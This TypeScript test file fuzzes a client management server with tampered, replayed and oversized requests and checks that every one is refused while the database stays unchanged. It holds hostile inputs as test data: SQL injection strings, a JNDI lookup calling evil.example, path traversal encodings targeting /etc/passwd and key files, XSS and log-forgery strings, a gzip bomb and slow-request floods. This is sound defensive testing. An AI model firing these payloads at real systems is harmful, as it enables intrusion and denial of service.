import assert from 'node:assert/strict';
import { randomBytes, randomUUID } from 'node:crypto';
import { once } from 'node:events';
import net from 'node:net';
import { test, type TestContext } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { TSchema } from 'typebox';
import type { ManualClock } from '#base/clock';
import { systemClock } from '#base/clock';
import { Farewell, Heartbeat, matches, Registration, signRequest, StateMessage, type Signer } from '#messages';
import { fuzzCount, fuzzSeed, mutated, Numbers } from '#test/fuzz';
import { Pc } from '#test/pc';
import { manual, sendRaw, TestSite } from '#test/points';

/** Clients that lie, repeat themselves, shout and trickle: each is refused with a 4xx, and nothing in the database changes. */

const TABLES = [
  'client',
  'client_token',
  'client_state',
  'client_event',
  'client_conflict',
  'ddr',
  'resource',
  'ccr',
  'fallback_status',
  'site_point',
] as const;

/** digestOf is what all that clients could move looks like now. */
async function digestOf(site: TestSite): Promise<string> {
  const parts = TABLES.map((table) => `(select md5(coalesce(string_agg(t::text, '|' order by t::text), '')) from ${table} t)`);
  const [row] = await site.parts.database.query<{ digest: string }>(`select concat_ws(' ', ${parts.join(', ')}) as digest`);
  return row!.digest;
}

/** soundLog asserts that each line of the log is one JSON object that this program wrote, and none tells of a defect. */
function soundLog(site: TestSite): void {
  for (const line of site.logged) {
    assert.ok(line.endsWith('\n') && !/[\r\n\u2028]/.test(line.slice(0, -1)), JSON.stringify(line));
    const { event } = JSON.parse(line) as { event: string };
    assert.notEqual(event, 'forged');
    assert.notEqual(event, 'request failed', line);
  }
}

async function registered(t: TestContext) {
  const site = await TestSite.make(t, manual());
  await site.records.site.setPoint('fsp', { address: 'http://fsp.corp.example:8480' }, 'test');
  const { url, port } = await site.managementPoint();
  const pc = new Pc(site, url);
  const token = await site.records.client.issueToken({
    name: pc.name,
    domain: 'CORP',
    expiresAt: new Date(site.clock.now().getTime() + 36_000_000),
  });
  assert.equal((await pc.register(pc.proven(token))).status, 200);
  assert.equal((await pc.beat()).status, 200);
  return { site, url, port, pc };
}

interface Kind {
  path: string;
  schema: TSchema;
  sample: () => unknown;
  signer: Signer | undefined;
}

function kindsOf(pc: Pc): Kind[] {
  const now = pc.site.clock.now().toISOString();
  const stranger = new Pc(pc.site, pc.url, 'STRANGER');
  return [
    {
      path: '/ccm_system/registration',
      schema: Registration,
      sample: () => stranger.registration(),
      signer: { privateKey: stranger.key },
    },
    { path: '/ccm_system/heartbeat', schema: Heartbeat, sample: () => pc.heartbeat(), signer: pc.signer },
    {
      path: '/ccm_system/state',
      schema: StateMessage,
      sample: () => pc.state(313, { detail: 'x', logTail: 'y' }),
      signer: pc.signer,
    },
    {
      path: '/ccm_system/farewell',
      schema: Farewell,
      sample: () => ({ guid: pc.guid, reason: 'uninstall', sentAt: now }),
      signer: pc.signer,
    },
    {
      path: '/sms_fsp/state',
      schema: StateMessage,
      sample: () => pc.state(313, { detail: 'x', logTail: 'y' }),
      signer: undefined,
    },
  ];
}

async function sendOctets(pc: Pc, path: string, body: Uint8Array, headers: Record<string, string>) {
  const answer = await fetch(pc.url + path, {
    method: 'POST',
    headers: { ...headers, 'content-type': 'application/json' },
    body: Buffer.from(body),
  });
  return { status: answer.status, text: await answer.text() };
}

const signed = (pc: Pc, path: string, body: Uint8Array, signer: Signer | undefined): Record<string, string> =>
  signer === undefined
    ? {}
    : signRequest({ method: 'POST', path, body }, signer, {
        time: pc.site.clock.now(),
        nonce: randomBytes(16).toString('base64url'),
      });

function parsed(octets: Uint8Array): unknown {
  try {
    return JSON.parse(new TextDecoder('utf-8', { fatal: true }).decode(octets)) as unknown;
  } catch {
    return undefined;
  }
}

/** inTurns works on many, some at a time, and lets the clock go on so that no limiter gets in the way. */
async function inTurns<T>(site: TestSite, ones: readonly T[], work: (one: T) => Promise<void>): Promise<void> {
  for (let at = 0; at < ones.length; at += 25) {
    await Promise.all(ones.slice(at, at + 25).map(work));
    await (site.clock as ManualClock).advance(10_000);
  }
}

test('octets that were changed on the way: a thousand of each kind of message, all refused, nothing changed', async (t) => {
  const { site, pc } = await registered(t);
  const seed = fuzzSeed();
  const numbers = new Numbers(seed);
  const before = await digestOf(site);
  for (const { path, schema, sample, signer } of kindsOf(pc)) {
    const samples = Array.from({ length: 8 }, () => Buffer.from(JSON.stringify(sample())));
    const changed: { body: Uint8Array; of: Buffer }[] = [];
    while (changed.length < fuzzCount(1000)) {
      const of = numbers.pick(samples);
      const body = mutated(of, numbers, samples);
      // What nobody signs is refused by its form alone, so one that is still right is no attack.
      const right = signer === undefined && matches(schema, parsed(body));
      if (!right && !of.equals(body)) changed.push({ body, of });
    }
    await inTurns(site, changed, async ({ body, of }) => {
      const { status, text } = await sendOctets(pc, path, body, signed(pc, path, of, signer));
      assert.ok(
        status >= 400 && status < 500,
        `seed ${seed}: ${path} ${status} ${text} ${JSON.stringify(Buffer.from(body).toString('latin1'))}`,
      );
    });
  }
  assert.equal(await digestOf(site), before);
  soundLog(site);
});

/** A value in the place of another one. */
const JUNK: readonly unknown[] = [
  null,
  true,
  -1,
  1e308,
  '',
  [],
  {},
  [[[[[[[[]]]]]]]],
  'x'.repeat(20_000),
  "'; drop table client; --",
  '../../../etc/passwd',
  'a\r\n{"event":"forged"}',
  '\u0000',
  '\ud800',
  '${jndi:ldap://evil.example/a}',
  '2026-13-45T99:99:99Z',
  { toString: 'x', length: 1e9 },
];

/** spoiled puts junk into one place of a message, or takes one out. */
function spoiled(message: unknown, numbers: Numbers): unknown {
  const copy = structuredClone(message) as Record<string, unknown>;
  let holder: Record<string, unknown> = copy;
  let key = numbers.pick(Object.keys(copy));
  for (let inner = holder[key]; typeof inner === 'object' && inner !== null && numbers.below(2) === 0; inner = holder[key]) {
    const keys = Object.keys(inner);
    if (keys.length === 0) break;
    holder = inner as Record<string, unknown>;
    key = numbers.pick(keys);
  }
  if (numbers.below(8) === 0) delete holder[key];
  else holder[key] = numbers.pick(JUNK);
  return copy;
}

test('messages of the wrong form under a right signature: a thousand of each kind, all refused, nothing changed', async (t) => {
  const { site, pc } = await registered(t);
  const seed = fuzzSeed();
  const numbers = new Numbers(seed);
  const before = await digestOf(site);
  for (const { path, schema, sample, signer } of kindsOf(pc)) {
    const wrong: string[] = [];
    while (wrong.length < fuzzCount(1000)) {
      const text = JSON.stringify(spoiled(sample(), numbers));
      if (!matches(schema, JSON.parse(text))) wrong.push(text);
    }
    await inTurns(site, wrong, async (text) => {
      const body = Buffer.from(text);
      const said = await sendOctets(pc, path, body, signed(pc, path, body, signer));
      assert.ok(
        said.status >= 400 && said.status < 500,
        `seed ${seed}: ${path} ${said.status} ${said.text} ${text.slice(0, 500)}`,
      );
    });
  }
  assert.equal(await digestOf(site), before);
  soundLog(site);
});

/** Words that would do something if anybody took them for more than words. */
const EVIL = [
  "'); drop table client; --",
  "x' or '1'='1",
  '\\x41{},"(),NULL',
  '$1::text',
  '%s%n%d',
  '</MPList><script>alert(1)</script>',
  '$$<SMS_MP><01-01-2026 00:00:00>',
  '{"event":"forged"}',
  '\u202e\u0085',
];

test('words of SQL, of logs and of markup in every field are refused or kept as the words they are', async (t) => {
  const { site, pc } = await registered(t);
  for (const { path, schema, sample, signer } of kindsOf(pc)) {
    for (const field of [
      'name',
      'domain',
      'fqdn',
      'hardwareId',
      'architecture',
      'clientVersion',
      'detail',
      'logTail',
      'guid',
      'site',
      'os',
      'reason',
    ])
      for (const word of EVIL) {
        const message = sample() as Record<string, unknown>;
        if (field !== 'site' && field !== 'guid' && !Object.hasOwn(message, field) && field !== 'architecture') continue;
        message[field] = field === 'os' ? { name: word, version: word, type: 'workstation' } : word;
        message['topicId'] &&= randomUUID();
        const right = matches(schema, message);
        const body = Buffer.from(JSON.stringify(message));
        const { status, text } = await sendOctets(pc, path, body, signed(pc, path, body, signer));
        const expected = right ? [200, 429] : [400];
        // A stranger's registrations are few: 429 after the first hundreds.
        assert.ok(expected.includes(status), `${path} ${field} ${word}: ${status} ${text}`);
      }
    await (site.clock as ManualClock).advance(600_000);
  }
  const kept = await site.parts.database.query<{ os: string }>('select os from client where name = $1', [pc.name]);
  assert.equal(kept[0]?.os, EVIL.at(-1));
  const said = await site.parts.database.query<{ detail: string }>('select distinct detail from fallback_status order by detail');
  for (const word of EVIL)
    assert.ok(
      said.some(({ detail }) => detail === word),
      word,
    );
  for (const table of TABLES) await site.parts.database.query(`select count(*) from ${table}`);
  soundLog(site);
});

test('a day of requests, sent again in their order and against it, moves nothing', async (t) => {
  const { site, pc } = await registered(t);
  const day: { path: string; body: Buffer; headers: Record<string, string> }[] = [];
  for (let i = 0; i < 20; i++) {
    const [path, message] =
      i % 4 === 3 ? (['/ccm_system/state', pc.state(100 + i)] as const) : (['/ccm_system/heartbeat', pc.heartbeat()] as const);
    const body = Buffer.from(JSON.stringify(message));
    day.push({ path, body, headers: signed(pc, path, body, pc.signer) });
  }
  for (const { path, body, headers } of day) assert.equal((await sendOctets(pc, path, body, headers)).status, 200);
  const before = await digestOf(site);
  for (const one of [...day, ...day.toReversed()]) {
    const { status, text } = await sendOctets(pc, one.path, one.body, one.headers);
    assert.ok(status >= 400 && status < 500 && text.includes('PP_MSG_REPLAYED'), text);
  }
  // Under the name of another client, by another path, and with the headers of another request.
  const thief = new Pc(site, pc.url, 'PC666');
  await thief.register();
  const later = await digestOf(site);
  const [first, second] = [day[0]!, day[1]!];
  for (const headers of [
    { ...second.headers, 'x-pushpoint-client': thief.guid! },
    { ...first.headers, 'x-pushpoint-signature': second.headers['x-pushpoint-signature']! },
    signed(pc, '/ccm_system/state', first.body, pc.signer),
    signed(pc, first.path, first.body, { client: pc.guid!, privateKey: thief.key }),
    signed(pc, first.path, first.body, { client: thief.guid!, privateKey: thief.key }),
  ])
    assert.ok([401, 403].includes((await sendOctets(pc, first.path, first.body, headers)).status));
  assert.equal(await digestOf(site), later);
  assert.notEqual(before, '');
  // A fortnight on the clock of the client is refused by the clock, before anybody looks for a nonce.
  const stale = signRequest({ method: 'POST', path: first.path, body: first.body }, pc.signer, {
    time: new Date(site.clock.now().getTime() - 14 * 86_400_000),
    nonce: randomBytes(16).toString('base64url'),
  });
  assert.match((await sendOctets(pc, first.path, first.body, stale)).text, /PP_MSG_TIME_OFF/);
  soundLog(site);
});

test('what is too long is refused wherever it is long, and what says it is compressed is never opened', async (t) => {
  const { site, pc, port } = await registered(t);
  const before = await digestOf(site);
  const bomb = gzipSync(Buffer.alloc(50 << 20));
  const memory = process.memoryUsage().rss;
  for (const { path } of kindsOf(pc)) {
    assert.equal((await sendOctets(pc, path, Buffer.alloc(400_000, 0x20), {})).status, 413, path);
    const opened = await sendOctets(pc, path, bomb, { 'content-encoding': 'gzip' });
    assert.ok(opened.status >= 400 && opened.status < 500, `${path}: ${opened.status}`);
    const deep = Buffer.from(`${'['.repeat(60_000)}${']'.repeat(60_000)}`);
    assert.ok([400, 401, 413].includes((await sendOctets(pc, path, deep, {})).status), path);
    const chunked = await sendRaw(port, [
      `POST ${path} HTTP/1.1\r\nHost: mp\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n`,
      `100000\r\n${'x'.repeat(0x100000)}\r\n0\r\n\r\n`,
    ]);
    assert.match(chunked, /^HTTP\/1\.1 413 /, path);
  }
  assert.match(await sendRaw(port, [`GET /${'x'.repeat(30_000)} HTTP/1.1\r\nHost: mp\r\n\r\n`]), /^HTTP\/1\.1 (431|414|404) /);
  assert.match(await sendRaw(port, [`GET / HTTP/1.1\r\nHost: mp\r\nX: ${'x'.repeat(30_000)}\r\n\r\n`]), /^HTTP\/1\.1 431 /);
  assert.ok(process.memoryUsage().rss - memory < 150 << 20);
  assert.equal(await digestOf(site), before);
  soundLog(site);
});

test('no path leads out of the client files', async (t) => {
  const { site, port } = await registered(t);
  const tricks = [
    '../',
    '..%2f',
    '%2e%2e/',
    '%2e%2e%2f',
    '..\\',
    '..%5c',
    '....//',
    '%c0%ae%c0%ae/',
    '%252e%252e%252f',
    '..;/',
    './../',
    '//../',
  ];
  for (const trick of tricks)
    for (const file of ['etc/passwd', 'windows/win.ini', 'site.json', 'vault/key', 'run/console.token']) {
      const target = `/CCM_Client/${trick.repeat(8)}${file}`;
      const said = await sendRaw(port, [`GET ${target} HTTP/1.1\r\nHost: mp\r\nConnection: close\r\n\r\n`]);
      assert.match(said, /^HTTP\/1\.1 40[04] /, target);
      assert.ok(!said.includes('root:'), target);
    }
  soundLog(site);
});

test('three hundred that trickle their requests do not keep an honest client waiting, and are cut off', async (t) => {
  const site = await TestSite.make(t);
  const { url, port } = await site.managementPoint({ patience: { headMs: 1500, requestMs: 2500, idleMs: 3000 } });
  const slow = await Promise.all(
    Array.from({ length: 300 }, async (_, i) => {
      const socket = net.connect({ port, host: '127.0.0.1' });
      socket.on('error', () => {});
      socket.resume();
      await once(socket, 'connect');
      socket.write(
        i % 2 === 0 ? 'GET / HTTP/1.1\r\nX: ' : 'POST /ccm_system/heartbeat HTTP/1.1\r\nHost: mp\r\nContent-Length: 1000\r\n\r\n',
      );
      return socket;
    }),
  );
  t.after(() => slow.forEach((socket) => socket.destroy()));
  const pc = new Pc(site, url);
  const from = systemClock.monotonic();
  assert.equal((await pc.register()).status, 200);
  assert.equal((await pc.beat()).status, 200);
  for (const until = from + 20_000; slow.some((socket) => !socket.destroyed) && systemClock.monotonic() < until;) {
    for (const socket of slow) if (!socket.destroyed) socket.write('a');
    await systemClock.sleep(200);
  }
  assert.equal(slow.filter((socket) => !socket.destroyed).length, 0);
  assert.equal((await pc.beat()).status, 200);
});
